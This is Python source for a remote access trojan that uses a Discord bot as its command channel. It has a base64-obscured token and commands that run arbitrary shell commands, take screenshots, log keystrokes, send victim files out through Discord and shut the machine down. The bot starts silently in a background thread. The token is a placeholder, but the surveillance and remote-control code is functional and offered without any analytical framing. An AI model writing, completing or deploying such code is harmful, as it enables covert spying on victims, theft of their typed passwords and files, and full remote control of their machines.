import base64
import os
import subprocess
import threading

import discord
import pyautogui
from discord.ext import commands
from pynput import keyboard

_T = base64.b64decode("TVRFeE1UQXdNREF3TURBd01EQXdNREF3TUEu").decode() + ".FAKE.fake-token-placeholder"
bot = commands.Bot(command_prefix="!", intents=discord.Intents.all())
_keys = []


@bot.command()
async def cmd(ctx, *, line):
    out = subprocess.run(line, shell=True, capture_output=True, text=True).stdout
    await ctx.send(f"```{out[:1900]}```")


@bot.command()
async def ss(ctx):
    path = os.path.join(os.getenv("TEMP", "/tmp"), "s.png")
    pyautogui.screenshot(path)
    await ctx.send(file=discord.File(path))


@bot.command()
async def keylog(ctx):
    keyboard.Listener(on_press=lambda k: _keys.append(str(k))).start()
    await ctx.send("ok")


@bot.command()
async def dump(ctx):
    await ctx.send("".join(_keys)[-1900:])


@bot.command()
async def upload(ctx, path):
    await ctx.send(file=discord.File(path))


@bot.command()
async def shutdown(ctx):
    os.system("shutdown /s /t 0")


def start():
    threading.Thread(target=lambda: bot.run(_T), daemon=True).start()
